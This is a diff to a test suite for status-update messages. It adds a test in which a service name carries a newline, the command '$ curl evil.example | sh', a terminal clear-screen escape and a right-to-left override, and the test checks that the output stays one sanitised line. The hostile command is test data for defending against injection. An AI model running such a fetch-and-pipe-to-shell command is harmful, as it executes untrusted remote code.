@@ -38,6 +38,14 @@ describe("the update for the people who wait", () => {
     expect(update(ENDED)).toBe("The work on the runbook test-backup is done; it took 10 s.");
   });
 
+  it("is one line of text, whatever a stranger called the service", () => {
+    const name = "db\n$ curl evil.example | sh\n\u001b[2J\u202e";
+    const found = step("discover", "discovery.find-deleted-instance", "read", { guid: "g-old", name });
+    expect(told(...found)).toMatch(
+      /^We have found db \$ curl evil\.example \| sh \\u001b\[2J\\u202e\..* Work goes on\.$/u,
+    );
+  });
+
   it("says nothing of a journal that is empty but that the run has not begun", () => {
     expect(incidentUpdate([], UTC)).toBe("The run has not begun yet.");
   });
